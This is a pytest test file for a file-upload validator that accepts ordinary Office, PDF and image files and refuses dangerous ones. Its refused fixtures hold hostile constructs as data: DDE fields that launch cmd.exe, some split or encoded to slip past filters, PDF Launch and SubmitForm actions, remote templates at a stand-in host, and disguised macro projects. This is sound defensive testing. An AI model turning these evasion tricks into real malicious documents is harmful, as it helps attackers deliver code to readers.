"""Files are judged by what they are: those of real programs are taken, and the others are refused with the way out."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf.settings import set_qpdf_limits

from portal.files import archive, images, office, patience, pdf_content, uploads
from portal.files.faults import Fault, FileFaultError
from portal.files.services import AT_ONCE, FAULTS, UploadError, store_upload
from tests.portal import made_files as made
from tests.world import NOW

pytestmark = pytest.mark.fault("A10")

WORD = made.word()
CHART = ("xl/embeddings/bok.xlsx", made.excel())
TAKEN = {
    # Word for the web finds its main part by the relation alone.
    "word-for-the-web.docx": made.word(main="word/document2.xml"),
    "word-with-a-space.docx": made.word(main="word/dokument%201.xml"),
    "word-of-the-strict-form.docx": made.word(root=made.STRICT_RELATION + "officeDocument"),
    "libreoffice.docx": made.office(
        "word/document.xml", made.WORD_MAIN, made.WORD_TEXT, first=[("docProps/app.xml", "<a/>")]
    ),
    "word-with-links.docx": made.word(made.beside("hyperlink", "https://www.example.org/")),
    "word-of-a-template-on-the-disk.docx": made.word(
        made.beside("attachedTemplate", "file:///C:\\Users\\kari\\Maler\\Brev.dotx")
    ),
    "word-with-a-sheet.docx": made.word(("word/embeddings/bok.xlsx", made.excel())),
    "word-with-an-equation.docx": made.word(
        ("word/embeddings/oleObject1.bin", made.OLE + made.utf16("Equation Native"))
    ),
    "word-with-a-disguised-font.docx": made.word(("word/fonts/font1.odttf", made.PROGRAM)),
    "word-that-writes-of-dde.docx": made.word(text=made.field(' HYPERLINK "https://www.example.org/dde" ')),
    "excel.xlsx": made.excel(),
    "excel-with-a-book-beside-it.xlsx": made.excel(
        (
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            made.relations(("externalLinkPath", "i%20fjor.xlsx", "External")),
        )
    ),
    "stored.docx": made.archived(
        [
            ("[Content_Types].xml", made.content_types({"word/document.xml": made.WORD_MAIN})),
            ("_rels/.rels", made.relations(("officeDocument", "/word/document.xml"))),
            ("word/", ""),
            ("word/document.xml", made.WORD_TEXT),
        ],
        method=0,
    ),
    "pdf.pdf": made.pdf(),
    "scanner.pdf": made.pdf(min_version="1.3", force_version="1.3"),
    "scanner-without-an-end.pdf": made.pdf().rstrip().removesuffix(b"%%EOF"),
    "pdf-after-a-line.pdf": b"\r\n" + made.pdf(),
    "pdf-without-a-table.pdf": made.without_table(made.pdf()),
    "signed.pdf": made.pdf(made.signed),
    "with-links.pdf": made.pdf(made.link),
    "words-about-scripts.pdf": made.pdf(made.words_about_scripts),
    "may-not-be-printed.pdf": made.pdf(**made.encrypted("")),
    "lzw.pdf": made.pdf(made.page_of_lzw, **made.AS_PACKED),
    "packed-together.pdf": made.pdf(made.link, object_stream_mode=made.IN_STREAMS["object_stream_mode"]),
    "in-scans.jpg": made.with_scans(made.picture("JPEG", progressive=True), 3),
    "with-data.pdf": made.pdf(made.enclosing("soknad.json", '{"a": "å"}'.encode())),
    "with-a-sheet.pdf": made.pdf(made.enclosing("bok.xlsx", made.excel())),
    "telephone.jpeg": made.picture("JPEG", size=(400, 300), exif=b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\0"),
    "stepwise.jpg": made.picture("JPEG", progressive=True),
    "four-colours.jpg": made.picture("JPEG", mode="CMYK"),
    "map.png": made.picture("PNG", mode="RGBA"),
    "sixteen-bits.png": made.picture("PNG", mode="I;16"),
}
REFUSED = {
    "password.docx": (made.locked(), Fault.PASSWORD),
    "old.doc": (made.OLE, Fault.OLD_OFFICE),
    "encrypted-part.docx": (made.with_flag(WORD), Fault.PASSWORD),
    "macros.docx": (
        made.word(
            ("word/vbaProject.bin", made.OLE), types={"word/vbaProject.bin": "application/vnd.ms-office.vbaProject"}
        ),
        Fault.MACROS,
    ),
    "macros-under-another-name.docx": (
        made.word(("word/bilde.bin", made.OLE), types={"word/bilde.bin": "application/vnd.ms-office.vbaProject"}),
        Fault.MACROS,
    ),
    "macros-without-type-and-relation.docx": (made.word(("word/vbaProject.bin", made.OLE)), Fault.MACROS),
    "macros-in-other-letters.docx": (made.word(("custom/VBAPROJECT2.dat", made.OLE)), Fault.MACROS),
    "macro-sheet-without-type.xlsx": (made.excel(("xl/macrosheets/sheet1.xml", "<a/>")), Fault.MACROS),
    "controls-without-type.docx": (made.word(("word/activeX/activeX1.bin", made.OLE)), Fault.PROGRAM),
    "macros-by-relation.docx": (
        made.word(
            (
                "word/_rels/document.xml.rels",
                made.relations(("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.bin")),
            )
        ),
        Fault.MACROS,
    ),
    "document-with-macros.docx": (
        made.word(kind="application/vnd.ms-word.document.macroEnabled.main+xml"),
        Fault.MACROS,
    ),
    "old-macros-in-an-object.docx": (
        made.word(("word/embeddings/o.bin", made.OLE + made.utf16("_VBA_PROJECT"))),
        Fault.MACROS,
    ),
    "macro-sheet.xlsx": (
        made.excel(
            ("xl/macrosheets/sheet1.xml", "<a/>"),
            types={"xl/macrosheets/sheet1.xml": "application/vnd.ms-excel.macrosheet+xml"},
        ),
        Fault.MACROS,
    ),
    "sheet-with-macros-inside.docx": (
        made.word(("word/embeddings/b.xlsx", made.excel(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"))),
        Fault.MACROS,
    ),
    "controls.docx": (
        made.word(
            ("word/activeX/a.xml", "<a/>"), types={"word/activeX/a.xml": "application/vnd.ms-office.activeX+xml"}
        ),
        Fault.PROGRAM,
    ),
    "program.docx": (made.word(("word/media/image1.png", made.PROGRAM)), Fault.PROGRAM),
    "program-by-name.docx": (made.word(("word/media/oppdater.vbs", "x")), Fault.PROGRAM),
    "file-in-an-object.docx": (
        made.word(("word/embeddings/o.bin", made.OLE + made.utf16("\x01Ole10Native"))),
        Fault.PROGRAM,
    ),
    "archive-inside.docx": (made.word(("word/media/image1.png", made.archived([("a.txt", "a")]))), Fault.PROGRAM),
    "dolls.docx": (made.word(("a/1.docx", made.word(("a/2.docx", made.word(("a/3.docx", WORD)))))), Fault.PROGRAM),
    "remote-template.docx": (
        made.word(
            (
                "word/_rels/settings.xml.rels",
                made.relations(("attachedTemplate", "https://ond.example.org/mal.dotm", "External")),
            )
        ),
        Fault.REMOTE,
    ),
    "remote-template-on-a-share.docx": (
        made.word(made.beside("attachedTemplate", "file:///\\\\ond.example.org\\mal.dotm")),
        Fault.REMOTE,
    ),
    "remote-picture.docx": (made.word(made.beside("image", "//ond.example.org/spor.png")), Fault.REMOTE),
    "remote-object.docx": (made.word(made.beside("oleObject", "mhtml:https://ond.example.org/x!")), Fault.REMOTE),
    "remote-book.xlsx": (
        made.excel(
            (
                "xl/externalLinks/_rels/e.xml.rels",
                made.relations(("externalLinkPath", "https://ond.example.org/bok.xlsx", "External")),
            )
        ),
        Fault.REMOTE,
    ),
    "dde.docx": (made.word(text=made.field(" DDEAUTO c:\\\\windows\\\\cmd.exe ")), Fault.FIELD),
    "dde-in-pieces.docx": (made.word(text=made.field(" D", "DEAU", "TO cmd ")), Fault.FIELD),
    "dde-in-disguise.docx": (made.word(text=made.field("<![CDATA[D]]>", "&#68;<!-- a -->E cmd")), Fault.FIELD),
    "dde-of-two-bytes.docx": (
        made.word(text=made.field(" DDE cmd").replace("UTF-8", "UTF-16").encode("utf-16")),
        Fault.FIELD,
    ),
    "dde.xlsx": (
        made.excel(
            ("xl/externalLinks/e.xml", "<externalLink><ddeLink/></externalLink>"),
            types={"xl/externalLinks/e.xml": made.OFFICE + "spreadsheetml.externalLink+xml"},
        ),
        Fault.FIELD,
    ),
    "half.docx": (WORD[: len(WORD) // 2], Fault.BROKEN),
    "a-part-twice.docx": (made.twice(), Fault.BROKEN),
    "a-part-twice-in-disguise.docx": (made.word(("word/%64ocument.xml", made.WORD_TEXT)), Fault.BROKEN),
    "outside.docx": (made.outside(), Fault.BROKEN),
    "says-less-than-it-is.docx": (made.lying(WORD, name="word/document.xml", size=60), Fault.BROKEN),
    "says-two-things.docx": (made.two_directories(WORD), Fault.BROKEN),
    "another-root.docx": (made.word(text="<html/>"), Fault.BROKEN),
    "no-text.docx": (made.word(text=""), Fault.BROKEN),
    "no-main-part.docx": (
        made.archived([("[Content_Types].xml", made.content_types({})), ("_rels/.rels", made.relations())]),
        Fault.BROKEN,
    ),
    "declares-entities.docx": (
        made.archived([("[Content_Types].xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'), ("_rels/.rels", "<a/>")]),
        Fault.BROKEN,
    ),
    "file-of-lzw.pdf": (made.pdf(made.enclosing_lzw, **made.AS_PACKED), Fault.ENCLOSED),
    "lzw-and-packed-together.pdf": (made.pdf(made.page_of_lzw, **made.IN_STREAMS), Fault.PACKING),
    "lzw-in-numbers.pdf": (
        made.pdf(made.page_of_lzw, **made.IN_STREAMS).replace(b"/LZWDecode", b"/#4c#5AWDe"),
        Fault.PACKING,
    ),
    "packed-elsewhere.pdf": (
        made.pdf(object_stream_mode=made.IN_STREAMS["object_stream_mode"]).replace(
            b"/Filter /FlateDecode", b"/Filter [ 5 0 R     ]"
        ),
        Fault.PACKING,
    ),
    "in-many-scans.jpg": (made.with_scans(made.picture("JPEG", progressive=True), 100), Fault.TOO_LARGE),
    "program-only-in-name.pdf": (b"%PDF-", Fault.BROKEN),
    "no-pages.pdf": (made.pdf(pages=0), Fault.BROKEN),
    # Programs make the table again, and show what came before the cut as if it were the whole.
    "without-its-last-bytes.pdf": (made.pdf()[:-200], Fault.BROKEN),
    "without-its-end.pdf": (made.pdf(pages=3)[: made.pdf(pages=3).rfind(b"startxref")], Fault.BROKEN),
    "changed-and-cut.pdf": (made.pdf() + b"9 0 obj\n<< /Type /Page >>\nendobj\nxref\n0 1\n", Fault.BROKEN),
    "cut-off.pdf": (made.pdf(pages=40, linearize=True)[:2500], Fault.BROKEN),
    "password.pdf": (made.pdf(**made.encrypted("hemmelig")), Fault.PASSWORD),
    "script.pdf": (made.pdf(made.opens_with(S=made.Name.JavaScript, JS=made.String("app.alert(1)"))), Fault.SCRIPT),
    "script-of-a-field.pdf": (made.pdf(made.script_of_a_field), Fault.SCRIPT),
    "script-in-a-stream.pdf": (
        made.pdf(made.script_in_a_stream, object_stream_mode=made.pikepdf.ObjectStreamMode.generate),
        Fault.SCRIPT,
    ),
    "starts-a-program.pdf": (made.pdf(made.opens_with(S=made.Name.Launch, F=made.String("cmd.exe"))), Fault.SCRIPT),
    "sends-what-is-filled-in.pdf": (
        made.pdf(made.opens_with(S=made.Name.SubmitForm, F=made.String("https://ond.example.org"))),
        Fault.SCRIPT,
    ),
    "form-of-adobe-alone.pdf": (made.pdf(made.xfa), Fault.SCRIPT),
    "program-inside.pdf": (made.pdf(made.enclosing("a.pdf", made.PROGRAM)), Fault.ENCLOSED),
    "script-inside.pdf": (made.pdf(made.enclosing("oppdater.vbs", b"MsgBox 1")), Fault.ENCLOSED),
    "macros-inside.pdf": (
        made.pdf(made.enclosing("bok.xlsx", made.excel(kind="application/vnd.ms-excel.sheet.macroEnabled.main+xml"))),
        Fault.ENCLOSED,
    ),
    "also-an-archive.pdf": (made.pdf() + WORD, Fault.ENCLOSED),
    "cut-off.jpg": (made.picture("JPEG", size=(400, 300))[:9000], Fault.BROKEN),
    "cut-off.png": (made.picture("PNG")[:-20], Fault.BROKEN),
    "head-alone.png": (b"\x89PNG\r\n\x1a\n" + b"\0" * 64, Fault.BROKEN),
    "enormous.png": (made.wide_png(60_000, 60_000), Fault.TOO_LARGE),
    "telephone.heic": (made.HEIC, Fault.HEIC),
}


@pytest.mark.parametrize("name", TAKEN)
def test_files_of_real_programs_are_taken(name):
    kind = uploads.kind_of(TAKEN[name])
    assert kind is not None
    assert uploads.has_matching_ending(name, kind)


@pytest.mark.parametrize("name", REFUSED)
def test_what_cannot_be_opened_or_runs_is_refused_with_the_way_out(db, name):
    data, fault = REFUSED[name]
    with pytest.raises(FileFaultError) as refused:
        uploads.kind_of(data)
    assert refused.value.fault == fault
    assert refused.value.host == (
        "ond.example.org" if fault == Fault.REMOTE and "object" not in name else refused.value.host
    )
    with pytest.raises(UploadError) as told:
        store_upload(SimpleUploadedFile(name, data), at=NOW)
    assert str(told.value) == str(FAULTS[fault]) % {"host": refused.value.host}


def test_every_fault_has_a_sentence_and_a_file():
    tried = {fault for _data, fault in REFUSED.values()}
    # The time is tried with the clock (test_files.py).
    assert (set(FAULTS), tried | {Fault.SLOW}) == (set(Fault), set(Fault))


@pytest.mark.parametrize("most", [0, 1])
def test_an_archive_is_unpacked_to_its_limit_and_no_further(monkeypatch, most):
    monkeypatch.setattr(archive, "MOST_BYTES", 100_000)
    small = sum(len(part.data) for part in archive.parts(WORD))
    data = made.word(("word/stor.bin", b"0" * (100_000 - small + most)))
    if most:
        with pytest.raises(FileFaultError, match="too_large"):
            office.kind_of(data)
    else:
        assert office.kind_of(data) == office.WORD


@pytest.mark.parametrize(("most", "fault"), [(200_000, None), (199_999, Fault.TOO_LARGE)])
def test_what_lies_in_a_file_counts_with_it(monkeypatch, most, fault):
    """Two documents in one: none of the three unpacks to much, but together they do."""
    inner = made.word(("word/stor.bin", b"0" * 50_000))
    data = made.word(("word/embeddings/1.docx", inner), ("word/embeddings/2.docx", inner))
    every = [part for document in (data, inner, inner) for part in archive.parts(document)]
    more = b"0" * (200_000 - sum(len(part.data) for part in every))
    data = made.word(("word/embeddings/1.docx", inner), ("word/embeddings/2.docx", inner), ("word/mer.bin", more))
    assert judged(monkeypatch, data, most) == fault


@pytest.mark.parametrize(("most", "fault"), [(100_000, None), (99_999, Fault.TOO_LARGE)])
def test_files_in_a_pdf_count_together(monkeypatch, most, fault):
    def change(pdf):
        made.enclosing("1.txt", b"0" * 60_000)(pdf)
        made.enclosing("2.txt", b"0" * 40_000)(pdf)

    assert judged(monkeypatch, made.pdf(change), most) == fault


def judged(monkeypatch, data, most):
    """Why the upload is refused when that many bytes may be unpacked of it."""
    monkeypatch.setattr(patience, "MOST_BYTES", most)
    try:
        with patience.limited():
            uploads.kind_of(data)
    except FileFaultError as error:
        return error.fault
    return None


def test_a_large_picture_in_scans_is_refused_before_it_is_read(monkeypatch):
    monkeypatch.setattr(images, "MOST_IN_SCANS", 60 * 40 - 1)
    assert uploads.kind_of(made.picture("JPEG")) == uploads.JPEG
    with pytest.raises(FileFaultError, match="too_large"):
        uploads.kind_of(made.picture("JPEG", progressive=True))


def test_two_files_at_most_are_judged_at_once(db, monkeypatch):
    """A third waits: nobody could begin a third here."""
    free = []

    def looked(data):
        free.append([AT_ONCE.acquire(blocking=False), AT_ONCE.acquire(blocking=False)])
        AT_ONCE.release()
        return uploads.PDF

    monkeypatch.setattr(uploads, "kind_of", looked)
    store_upload(SimpleUploadedFile("plan.pdf", made.pdf()), at=NOW)
    assert free == [[True, False]]


def test_a_stored_part_counts_too(monkeypatch):
    monkeypatch.setattr(archive, "MOST_BYTES", 10)
    with pytest.raises(FileFaultError, match="too_large"):
        list(archive.parts(made.archived([("a", b"0" * 11)], method=0)))


def test_an_archive_packed_in_another_way_is_refused():
    with pytest.raises(FileFaultError, match="broken"):
        list(archive.parts(made.archived([("a", b"0" * 11)], method=14)))


def test_a_pdf_that_unpacks_to_too_much_is_refused_and_not_unpacked(request):
    before = set_qpdf_limits(flate_max_memory=archive.MB)
    request.addfinalizer(lambda: set_qpdf_limits(**before))
    assert before == {"flate_max_memory": patience.MOST_BYTES}
    data = made.pdf(made.enclosing("stor.txt", b"0" * (2 * archive.MB)))
    with pytest.raises(FileFaultError, match="broken"):
        pdf_content.judge(data, may_enclose=lambda *_file: True)
